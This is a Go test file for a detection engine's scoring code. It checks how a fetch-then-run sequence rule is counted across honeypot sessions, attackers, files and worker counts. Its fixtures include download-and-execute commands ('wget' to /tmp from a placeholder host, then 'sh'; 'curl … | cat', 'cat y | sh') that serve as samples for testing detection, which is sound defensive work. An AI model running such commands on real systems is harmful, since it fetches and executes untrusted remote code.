package corpus

import (
	"fmt"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"

	"ttpctl/internal/engine"
	"ttpctl/internal/event"
)

// sequenceRule fires where a file is fetched and run in one session.
func sequenceRule(over string) engine.Source {
	return engine.Source{Name: "R0900.yaml", Data: fmt.Appendf(nil, `rule_id: R0900
rule_version: 1
name: fetch_then_run
description: A rule for tests.
applies_to: [command]
match:
  sequence:
    over: %s
    within: {minutes: 5}
    same: file
    steps:
      - effect: {fetches: any}
      - effect: {runs: any}
emits:
  - {tactic: TA0011, technique_id: T1105, confidence: 0.9}
`, over)}
}

// sessionRow is commandRow of a session at a decoy, with more members.
func sessionRow(decky, session, label, command string, expected ...string) string {
	row := commandRow(label, command, expected...)
	return fmt.Sprintf(`{"decky_id":%q,"session_id":%q,`, decky, session) + strings.TrimPrefix(row, "{")
}

const fetches, runs = "wget -O /tmp/x http://192.0.2.1/x", "sh /tmp/x"

func TestScoreSessions(t *testing.T) {
	tests := []struct {
		name       string
		rows       []string
		tp, fp, fn int
	}{
		{"one session", []string{sessionRow("d", "s", "1", fetches), sessionRow("d", "s", "2", runs, "R0900")}, 1, 0, 0},
		{"expected where it begins", []string{sessionRow("d", "s", "1", fetches, "R0900"), sessionRow("d", "s", "2", runs)}, 0, 1, 1},
		{"once a session", []string{sessionRow("d", "s", "1", fetches), sessionRow("d", "s", "2", runs, "R0900"), sessionRow("d", "s", "3", runs)}, 1, 0, 0},
		{"two sessions", []string{sessionRow("d", "s", "1", fetches), sessionRow("d", "z", "2", runs, "R0900")}, 0, 0, 1},
		{"two decoys", []string{sessionRow("d", "s", "1", fetches), sessionRow("e", "s", "2", runs, "R0900")}, 0, 0, 1},
		{"no session", []string{commandRow("1", fetches), commandRow("2", runs, "R0900"), commandRow("3", fetches+";"+runs, "R0900")}, 1, 0, 1},
		{"wrong way round", []string{sessionRow("d", "s", "1", runs), sessionRow("d", "s", "2", fetches, "R0900")}, 0, 0, 1},
		{"a pipe ends with its line", []string{sessionRow("d", "s", "1", "curl http://192.0.2.1/x | cat"), sessionRow("d", "s", "2", "cat y | sh")}, 0, 0, 0},
		{"a step without a label", []string{
			`{"label":"1","session_id":"s","decky_id":"d","source_kind":"command","payload":{"command_text":"` + fetches + `"}}`,
			sessionRow("d", "s", "2", runs, "R0900"),
		}, 1, 0, 0},
	}
	for _, tt := range tests {
		got := score(t, snapshotOf(t, sequenceRule("session")), Options{}, corpusOf("a", "x", tt.rows...)).rule(t, "R0900")
		if got.TP != tt.tp || got.FP != tt.fp || got.FN != tt.fn {
			t.Errorf("%s: TP %d FP %d FN %d, want %d %d %d", tt.name, got.TP, got.FP, got.FN, tt.tp, tt.fp, tt.fn)
		}
	}
}

// TestScoreSessionsOfCorpora: a session ends with its file, and rows that name
// no attacker have none in common.
func TestScoreSessionsOfCorpora(t *testing.T) {
	first, second := sessionRow("d", "s", "1", fetches), sessionRow("d", "s", "2", runs, "R0900")
	r := score(t, snapshotOf(t, sequenceRule("session")), Options{}, corpusOf("a", "x", first), corpusOf("b", "x", second))
	if got := r.rule(t, "R0900"); got.FN != 1 {
		t.Errorf("two files: FN %d, want 1", got.FN)
	}
	second = sessionRow("d", "z", "2", runs, "R0900")
	r = score(t, snapshotOf(t, sequenceRule("attacker")), Options{}, corpusOf("a", "x", first, second))
	if got := r.rule(t, "R0900"); got.FN != 1 {
		t.Errorf("no attacker named: FN %d, want 1", got.FN)
	}
	named := func(row string) string { return `{"attacker_uuid":"u",` + row[1:] }
	r = score(t, snapshotOf(t, sequenceRule("attacker")), Options{}, corpusOf("a", "x", named(first), named(second)))
	if got := r.rule(t, "R0900"); got.TP != 1 {
		t.Errorf("one attacker named: TP %d, want 1", got.TP)
	}
}

// TestScoreSessionsInOrder: sessions that run through many blocks come out
// alike for any number of workers, findings in the order of the file.
func TestScoreSessionsInOrder(t *testing.T) {
	var rows []string
	pad := strings.Repeat("x", 200)
	for i := range 4000 {
		s := fmt.Sprint("s", i%700)
		switch {
		case i < 700:
			rows = append(rows, sessionRow("d", s, fmt.Sprint(i), fetches+" # "+pad))
		case i%3 == 0:
			rows = append(rows, commandRow(fmt.Sprint(i), fetches+"; "+runs))
		default:
			rows = append(rows, sessionRow("d", s, fmt.Sprint(i), runs+" "+pad))
		}
	}
	var first *Report
	for _, workers := range []int{1, 4} {
		r := score(t, snapshotOf(t, sequenceRule("session")), Options{Workers: workers, Keep: 2000}, corpusOf("a", "x", rows...))
		if got := r.rule(t, "R0900").FP; got != 700+1100 {
			t.Errorf("%d workers: FP %d, want %d", workers, got, 1800)
		}
		if !slices.IsSortedFunc(r.Findings, func(a, b Finding) int { return a.Line - b.Line }) {
			t.Errorf("%d workers: findings are not in the order of the file", workers)
		}
		if first == nil {
			first = r
		}
		if diff := cmp.Diff(first.Findings, r.Findings, cmp.AllowUnexported(Finding{})); diff != "" {
			t.Errorf("%d workers: findings differ (-1 +%d):\n%s", workers, workers, diff)
		}
	}
}

// TestUnlabelledSessions: what counts and compares rows without labels sees
// their sessions, too.
func TestUnlabelledSessions(t *testing.T) {
	snap := snapshotOf(t, sequenceRule("session"))
	c := NewCensus(snap, time.Time{})
	m := NewImpact(snapshotOf(t, ruleText("R0018", "uname", 0.7)), snap, time.Time{})
	for _, command := range []string{fetches, runs} {
		row := Row{Event: *eventOf(t, sessionRow("d", "s", command, command))}
		c.Add(&row)
		m.Add(&row)
	}
	if got := c.Report(nil).Rules[0].Hits; got != 1 {
		t.Errorf("Census: %d hits, want 1", got)
	}
	if got := m.Report().RowsChanged; got != 1 {
		t.Errorf("Impact: %d rows changed, want 1", got)
	}
	s := NewSampler(snap, time.Time{}, 1, 5, nil)
	if err := s.Read(t.Context(), []Corpus{corpusOf("a", "x", sessionRow("d", "s", "1", fetches), sessionRow("d", "s", "2", runs))}); err != nil {
		t.Fatal(err)
	}
	if got := s.Samples(); len(got) != 1 || got[0].Label != "2" {
		t.Errorf("Sampler: %v, want the row that completes the sequence", got)
	}
}

// eventOf decodes the event of a row.
func eventOf(t *testing.T, text string) *event.Event {
	t.Helper()
	var row Row
	if err := newDecoder(nil, nil).decode([]byte(text), &row); err != nil {
		t.Fatal(err)
	}
	return &row.Event
}
